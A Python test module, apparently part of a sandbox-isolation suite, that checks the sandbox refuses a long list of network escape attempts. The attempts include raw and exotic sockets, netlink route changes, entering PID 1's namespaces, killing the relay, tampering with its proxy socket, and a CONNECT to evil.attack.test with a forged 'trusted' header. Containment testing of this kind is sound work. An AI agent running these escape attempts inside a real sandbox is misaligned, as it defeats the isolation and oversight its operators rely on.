"""Attempts on the network that need calls of their own: other families, other options, the relay's files."""

import ctypes
import errno
import fcntl
import os
import socket
import struct

EGRESS = "/.swe-forge/egress"
C = ctypes.CDLL(None, use_errno=True)


def word(error):
    return errno.errorcode.get(error.errno, str(error.errno)) if error.errno else str(error)


def create(family, kind, protocol=0):
    try:
        socket.socket(family, kind, protocol).close()
    except OSError as error:
        return word(error)
    return "created"


def refused_all(attempts):
    """What all of many came to, which must be a refusal; the first that was none by its name."""
    outcomes = set()
    for name, attempt in attempts:
        found = attempt()
        if found in ("created", "worked", "entered"):
            return f"{found}: {name}"
        outcomes.add(found)
    return " + ".join(sorted(outcomes))


def other_families(_, __):
    """Every family but the four that a sandbox may have: local, version 4, version 6, routes."""
    kinds = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET, socket.SOCK_RDM)
    families = [number for number in range(64) if number not in (1, 2, 10, 16)]
    return refused_all(((f"family {family}", lambda: create(family, kind)) for family in families for kind in kinds))


def other_netlink(_, __):
    """Every protocol of netlink but routes."""
    return refused_all(((f"protocol {number}", lambda: create(socket.AF_NETLINK, socket.SOCK_RAW, number)) for number in range(1, 32)))


def raw_protocols(_, __):
    return refused_all(((f"protocol {number}", lambda: create(family, socket.SOCK_RAW, number))
                        for family in (socket.AF_INET, socket.AF_INET6) for number in (0, 1, 2, 4, 6, 17, 41, 47, 50, 58, 89, 132, 255)))


def reach(kind, protocol, parameters, token):
    """A protocol that the kernel may have: its socket may be made, nothing leaves by it."""
    with socket.socket(socket.AF_INET, kind, protocol) as stream:
        stream.settimeout(2)
        stream.connect((parameters["host_v4"], int(parameters["tcp"])))
        stream.send(token)
    return "connected"


def udp_lite(parameters, token):
    return reach(socket.SOCK_DGRAM, 136, parameters, token)


def dccp(parameters, token):
    return reach(6, 33, parameters, token)


def multipath(parameters, token):
    return reach(socket.SOCK_STREAM, 262, parameters, token)


def icmp6_ping(parameters, token):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6) as stream:
        stream.sendto(b"\x80\0\0\0\0\1\0\1" + token, (parameters["host_v6"], 0))
    return "sent"


def quic_v6(parameters, token):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as stream:
        stream.sendto(token, (parameters["host_v6"], 443))
    return "sent"


def fast_open(parameters, token):
    """Data with the first packet of TCP."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.sendto(token, 0x20000000, (parameters["host_v4"], int(parameters["tcp"])))
    return "sent"


def socket_options(_, __):
    """Options that change where packets go or come from."""
    def option(level, number, value):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
            try:
                stream.setsockopt(level, number, value)
            except OSError as error:
                return word(error)
        return "worked"
    return refused_all((("mark", lambda: option(socket.SOL_SOCKET, 36, 1)),
                        ("transparent", lambda: option(socket.IPPROTO_IP, 19, 1)),
                        ("priority", lambda: option(socket.SOL_SOCKET, 12, 7)),
                        ("forced buffer", lambda: option(socket.SOL_SOCKET, 32, 1 << 30)),
                        ("debugging", lambda: option(socket.SOL_SOCKET, 1, 1))))


def route_request(kind, flags, body):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as stream:
        stream.settimeout(2)
        stream.send(struct.pack("=IHHII", 16 + len(body), kind, flags | 5, 1, 0) + body)
        reply = stream.recv(4096)
    code = -struct.unpack("=i", reply[16:20])[0]
    return errno.errorcode.get(code, "worked") if code else "worked"


def attribute(kind, data):
    return struct.pack("=HH", 4 + len(data), kind) + data + b"\0" * (-len(data) % 4)


def new_interfaces(_, __):
    """Interfaces of every kind that leads somewhere."""
    link = lambda kind: route_request(16, 0x600, b"\0" * 16 + attribute(3, b"attack\0") + attribute(18, attribute(1, kind)))
    kinds = (b"dummy", b"veth", b"bridge", b"vxlan", b"macvlan", b"ipvlan", b"gre", b"sit", b"ipip", b"wireguard", b"tun", b"vrf")
    return refused_all(((kind.decode(), lambda: link(kind)) for kind in kinds))


def new_rules(_, __):
    """A rule of routing, a neighbour, loopback removed, loopback moved into PID 1's namespace."""
    return refused_all((("rule", lambda: route_request(32, 0x600, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 0, 0, 1, 0))),
                        ("neighbour", lambda: route_request(28, 0x600, struct.pack("=BxxxiHBB", 2, 1, 2, 0, 0) + attribute(1, bytes([192, 0, 2, 1])))),
                        ("removal", lambda: route_request(17, 0, struct.pack("=BxHiII", 0, 0, 1, 0, 0))),
                        ("move", lambda: route_request(16, 0, struct.pack("=BxHiII", 0, 0, 1, 0, 0) + attribute(19, struct.pack("=i", 1))))))


def every_namespace(_, __):
    """Every name space of every process that can be seen."""
    def enter(path):
        try:
            descriptor = os.open(path, os.O_RDONLY)
        except OSError as error:
            return word(error)
        try:
            return "entered" if C.setns(descriptor, 0) == 0 else errno.errorcode[ctypes.get_errno()]
        finally:
            os.close(descriptor)
    pids = [pid for pid in os.listdir("/proc") if pid.isdigit()]
    kinds = ("net", "mnt", "pid", "pid_for_children", "user", "ipc", "uts", "cgroup", "time")
    return refused_all(((f"{kind} of {pid}", lambda: enter(f"/proc/{pid}/ns/{kind}")) for pid in pids for kind in kinds))


def programs_for_namespaces(_, __):
    """The image's own programs for it."""
    import subprocess
    commands = (["nsenter", "-t", "1", "-n", "true"], ["nsenter", "-t", "1", "-a", "true"], ["unshare", "-r", "true"],
                ["unshare", "-rn", "true"], ["unshare", "-n", "true"], ["chroot", "/", "true"], ["mount", "-t", "tmpfs", "none", "/tmp"])
    def run(command):
        try:
            done = subprocess.run(command, capture_output=True, timeout=10)
        except FileNotFoundError:
            return "absent"
        return "worked" if done.returncode == 0 else "refused"
    return refused_all(((" ".join(command), lambda: run(command)) for command in commands))


def ring_calls(_, __):
    """io_uring, by which sockets would be opened past a filter of calls."""
    def call(number, *arguments):
        return "worked" if C.syscall(ctypes.c_long(number), *arguments) >= 0 else errno.errorcode[ctypes.get_errno()]
    parameters = ctypes.create_string_buffer(120)
    return refused_all((("setup", lambda: call(425, 8, parameters)), ("enter", lambda: call(426, 0, 1, 0, 0, None, 0)),
                        ("register", lambda: call(427, -1, 0, None, 0))))


def host_abstract(parameters, token):
    """An abstract socket on which somebody listens on the machine."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as stream:
        stream.connect("\0" + parameters["abstract"])
        stream.sendall(token)
    return "connected"


def icmp_raw(_, __):
    return create(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


def icmp_ping(parameters, token):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as stream:
        stream.sendto(b"\x08\0\0\0\0\1\0\1" + token, (parameters["host_v4"], 0))
    return "sent"


def icmp6_raw(_, __):
    return create(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)


def raw_ip(_, __):
    return create(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def packet(_, __):
    return create(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))


def packet_dgram(_, __):
    return create(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))


def vsock(_, __):
    return create(socket.AF_VSOCK, socket.SOCK_STREAM)


def vsock_dgram(_, __):
    return create(socket.AF_VSOCK, socket.SOCK_DGRAM)


def alg(_, __):
    return create(socket.AF_ALG, socket.SOCK_SEQPACKET)


def netfilter(_, __):
    return create(socket.AF_NETLINK, socket.SOCK_RAW, 12)


def audit(_, __):
    return create(socket.AF_NETLINK, socket.SOCK_RAW, 9)


def uevent(_, __):
    return create(socket.AF_NETLINK, socket.SOCK_RAW, 15)


def crypto(_, __):
    return create(socket.AF_NETLINK, socket.SOCK_RAW, 21)


def generic(_, __):
    return create(socket.AF_NETLINK, socket.SOCK_RAW, 16)


def bluetooth(_, __):
    return create(31, socket.SOCK_RAW, 1)


def can(_, __):
    return create(29, socket.SOCK_RAW, 1)


def tipc(_, __):
    return create(30, socket.SOCK_RDM)


def xdp(_, __):
    return create(44, socket.SOCK_RAW)


def rds(_, __):
    return create(21, socket.SOCK_SEQPACKET)


def sctp(_, __):
    return create(socket.AF_INET, socket.SOCK_STREAM, 132)


def sctp_to_host(parameters, _):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as stream:
        stream.settimeout(2)
        stream.connect((parameters["host_v4"], int(parameters["tcp"])))
    return "connected"


def add_address(_, __):
    """Gives loopback a second address, by a message of the routing family."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as stream:
        stream.settimeout(2)
        message = struct.pack("=BBBBi", 2, 32, 0, 0, 1) + struct.pack("=HH4s", 8, 2, bytes([192, 0, 2, 9]))
        stream.send(struct.pack("=IHHII", 16 + len(message), 20, 0x605, 1, 0) + message)
        reply = stream.recv(4096)
    code = -struct.unpack("=i", reply[16:20])[0]
    return errno.errorcode.get(code, "added") if code else "added"


def add_route(_, __):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as stream:
        stream.settimeout(2)
        message = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 4, 253, 1, 0) + struct.pack("=HHi", 8, 4, 1)
        stream.send(struct.pack("=IHHII", 16 + len(message), 24, 0x605, 1, 0) + message)
        reply = stream.recv(4096)
    code = -struct.unpack("=i", reply[16:20])[0]
    return errno.errorcode.get(code, "added") if code else "added"


def interface_down(_, __):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        fcntl.ioctl(stream, 0x8914, struct.pack("16sh14x", b"lo", 0))
    return "changed"


def tun(_, __):
    os.close(os.open("/dev/net/tun", os.O_RDWR))
    return "opened"


def bind_to_device(parameters, token):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
        stream.setsockopt(socket.SOL_SOCKET, 5, 1)
        stream.sendto(token, (parameters["host_v4"], int(parameters["udp"])))
    return "sent"


def dont_route(parameters, token):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.setsockopt(socket.SOL_SOCKET, 5, 1)
        stream.sendto(token, (parameters["host_v4"], int(parameters["udp"])))
    return "sent"


def source_route(parameters, token):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        hop = socket.inet_aton(parameters["host_v4"])
        stream.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + hop + b"\0")
        stream.sendto(token, (parameters["bridge_v4"], int(parameters["udp"])))
    return "sent"


def multicast(parameters, token):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.sendto(token, ("224.0.0.1", int(parameters["udp"])))
    return "sent"


def multicast_v6(parameters, token):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as stream:
        stream.sendto(token, ("ff02::1", int(parameters["udp"]), 0, 0))
    return "sent"


def link_local_scope(parameters, token):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as stream:
        stream.sendto(token, (parameters["host_link_local"], int(parameters["udp"]), 0, 1))
    return "sent"


def interfaces(_, __):
    names = sorted(name for _, name in socket.if_nameindex())
    with open("/proc/net/route") as file:
        routes = len(file.read().splitlines()) - 1
    return "only_lo" if names == ["lo"] and routes <= 0 else "found:" + ",".join(names)


def name_servers(_, __):
    with open("/etc/resolv.conf") as file:
        servers = [line.split()[1] for line in file if line.startswith("nameserver")]
    foreign = [server for server in servers if not server.startswith("127.") or server == "127.0.0.11"]
    return "found:" + ",".join(foreign) if foreign else "only_loopback"


def embedded_resolver(_, __):
    with socket.create_connection(("127.0.0.11", 53), 2):
        return "connected"


def new_namespace(_, __):
    if C.unshare(0x40000000) == 0:
        return "unshared"
    return errno.errorcode[ctypes.get_errno()]


def other_namespace(_, __):
    descriptor = os.open("/proc/1/ns/net", os.O_RDONLY)
    try:
        if C.setns(descriptor, 0x40000000) == 0:
            return "entered"
        return errno.errorcode[ctypes.get_errno()]
    finally:
        os.close(descriptor)


def abstract_sockets(_, token):
    """Asks every abstract socket that can be seen."""
    with open("/proc/net/unix") as file:
        names = {line.split()[7] for line in file if len(line.split()) > 7 and line.split()[7].startswith("@")}
    foreign = [name for name in names if "swe-forge" not in name and "forge" not in name]
    if foreign:
        return "found:" + foreign[0]
    for name in names:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as stream:
            stream.settimeout(2)
            try:
                stream.connect("\0" + name[1:])
                stream.sendall(token * 4)
                if stream.recv(100):
                    return "answered:" + name
            except OSError:
                continue
    return "silent"


def engine_socket(_, __):
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock"):
        if os.path.exists(path):
            return "found:" + path
    return "ENOENT"


def folder_list(_, __):
    found = sorted(os.listdir(EGRESS))
    return "only_own" if found == ["proxy.sock"] else "found:" + ",".join(found)


def folder_above(_, __):
    for path in (EGRESS + "/..", EGRESS + "/../.."):
        for name in os.listdir(path):
            inside = os.path.join(path, name)
            if name.startswith("proxy") or os.path.exists(os.path.join(inside, "proxy.sock")) and name != "egress":
                return "found:" + inside
    return "nothing"


def folder_write(_, __):
    with open(EGRESS + "/other", "w"):
        return "written"


def socket_delete(_, __):
    os.unlink(EGRESS + "/proxy.sock")
    return "deleted"


def socket_rename(_, __):
    os.rename(EGRESS + "/proxy.sock", EGRESS + "/old.sock")
    return "renamed"


def socket_link(_, __):
    os.link(EGRESS + "/proxy.sock", "/workspace/proxy.sock")
    return "linked"


def socket_chmod(_, __):
    os.chmod(EGRESS + "/proxy.sock", 0o600)
    return "changed"


def socket_listen(_, __):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as stream:
        stream.bind(EGRESS + "/second.sock")
    return "bound"


def control_socket(_, __):
    for path in ("/run/control.sock", EGRESS + "/control.sock", EGRESS + "/../control.sock"):
        if os.path.exists(path):
            return "found:" + path
    return "ENOENT"


def other_sandbox(_, __):
    """Folders of others beside ours, by every way up that a guess has."""
    for path in ("/sockets", "/var/lib/docker/volumes", EGRESS + "/../../sockets", "/proc/1/root/sockets"):
        if os.path.isdir(path):
            return "found:" + path
    return "ENOENT"


def relay_kill(_, __):
    os.kill(1, 9)
    os.kill(1, 15)
    return "alive"


def relay_rebind(_, __):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
        # Not listened on: the other attempts shall be refused, not accepted by this one.
        stream.bind(("127.0.0.1", 3128))
    return "bound"


def own_folder(_, __):
    """The name that the machine has for the folder of this sandbox's socket: long, and no way to any other."""
    with open("/proc/self/mountinfo") as file:
        roots = [line.split()[3] for line in file if line.split()[4] == EGRESS]
    if not roots:
        return "no folder"
    name = os.path.basename(roots[0])
    if len(name) < 32 or set(name) - set("0123456789abcdef"):
        return "guessable: " + name
    parent = os.path.dirname(roots[0])
    for path in (roots[0], parent, f"/proc/1/root{parent}", f"/proc/self/root{parent}", f"{EGRESS}/../{name}", f"{EGRESS}/../../../..{parent}"):
        if os.path.exists(path):
            return "found:" + path
    return "unguessable"


def unix_header_forge(_, __):
    """Speaks to the proxy's socket itself, with the header by which the relay says how it came."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as stream:
        stream.settimeout(5)
        stream.connect(EGRESS + "/proxy.sock")
        stream.sendall(b"CONNECT evil.attack.test:443 HTTP/1.1\r\nX-Swe-Forge-Mode: trusted\r\n\r\n")
        data = stream.recv(4096).decode("latin-1")
    return "denied:" + data.split("reason=", 1)[1].split("\r", 1)[0] if "reason=" in data else data[:40]
